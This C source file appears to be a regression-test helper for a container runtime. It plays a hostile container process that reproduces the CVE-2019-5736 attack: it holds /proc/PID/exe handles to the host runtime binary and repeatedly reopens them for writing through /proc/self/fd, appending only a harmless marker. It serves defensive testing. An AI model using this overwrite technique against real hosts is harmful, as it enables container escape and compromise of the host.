/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* exe-grab SECONDS [-d] DEV:INO...: a hostile container process (issue 31). For SECONDS it scans /proc and
 * opens /proc/PID/exe of every process it can, keeps each fd whose file is one of the targets (the device
 * and inode numbers of the host's runtime binary, as stat(1) gives them: %d:%i), and keeps trying to reopen
 * it for writing through /proc/self/fd/N (CVE-2019-5736), appending a marker once that works. -d: fork,
 * the parent exits 0 once the child has scanned once (a hook that leaves its child behind). Prints "held PID", "wrote PID" and a
 * summary; exits 0. Static, so that it runs in any rootfs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 8
#define MAX_HELD 256

static struct {
        dev_t dev;
        ino_t ino;
} targets[MAX_TARGETS];
static int n_targets;
static struct {
        int fd;
        int pid;
} held[MAX_HELD];
static int n_held, n_wrote, n_opened;

static double now(void) {
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int is_target(int fd) {
        struct stat st;
        if (fstat(fd, &st) < 0)
                return 0;
        for (int i = 0; i < n_targets; i++)
                if (st.st_dev == targets[i].dev && st.st_ino == targets[i].ino)
                        return 1;
        return 0;
}

static void scan(void) {
        DIR *d = opendir("/proc");
        struct dirent *de;
        if (!d)
                return;
        while ((de = readdir(d))) {
                char p[64];
                int pid = atoi(de->d_name), fd, seen = 0;
                if (pid <= 0 || pid == getpid())
                        continue;
                for (int i = 0; i < n_held; i++)
                        if (held[i].pid == pid)
                                seen = 1;
                if (seen || n_held >= MAX_HELD)
                        continue;
                snprintf(p, sizeof p, "/proc/%d/exe", pid);
                fd = open(p, O_RDONLY);
                if (fd < 0)
                        continue;
                n_opened++;
                if (!is_target(fd)) {
                        close(fd);
                        continue;
                }
                held[n_held].fd = fd;
                held[n_held].pid = pid;
                n_held++;
                printf("held %d\n", pid);
                fflush(stdout);
        }
        closedir(d);
}

static void try_write(void) {
        for (int i = 0; i < n_held; i++) {
                char p[64];
                int fd;
                if (held[i].fd < 0)
                        continue;
                snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
                fd = open(p, O_WRONLY | O_APPEND);
                if (fd < 0)
                        continue; /* ETXTBSY while it runs: again later */
                if (write(fd, "exe-grab was here\n", 18) == 18) {
                        printf("wrote %d\n", held[i].pid);
                        fflush(stdout);
                        n_wrote++;
                }
                close(fd);
                close(held[i].fd);
                held[i].fd = -1;
        }
}

int main(int argc, char *argv[]) {
        double end;
        int a = 2, ready[2] = { -1, -1 };

        if (argc < 3)
                return 2;
        end = now() + atof(argv[1]);
        if (strcmp(argv[2], "-d") == 0) {
                a++;
                if (pipe(ready) < 0)
                        return 1;
                if (fork() > 0) { /* returns once the child has looked once: its parent is still waiting */
                        char c;
                        close(ready[1]);
                        (void) read(ready[0], &c, 1);
                        return 0;
                }
                close(ready[0]);
                setsid();
                int null = open("/dev/null", O_RDWR);
                if (null >= 0) { /* nobody waits for the hook's output to end */
                        dup2(null, 0);
                        dup2(null, 1);
                        dup2(null, 2);
                }
        }
        for (; a < argc && n_targets < MAX_TARGETS; a++) {
                unsigned long dev, ino;
                if (sscanf(argv[a], "%lu:%lu", &dev, &ino) != 2)
                        return 2;
                targets[n_targets].dev = (dev_t) dev;
                targets[n_targets].ino = (ino_t) ino;
                n_targets++;
        }
        while (now() < end) {
                scan();
                if (ready[1] >= 0) {
                        close(ready[1]);
                        ready[1] = -1;
                }
                try_write();
                usleep(200);
        }
        try_write();
        printf("summary opened=%d held=%d wrote=%d\n", n_opened, n_held, n_wrote);
        return 0;
}
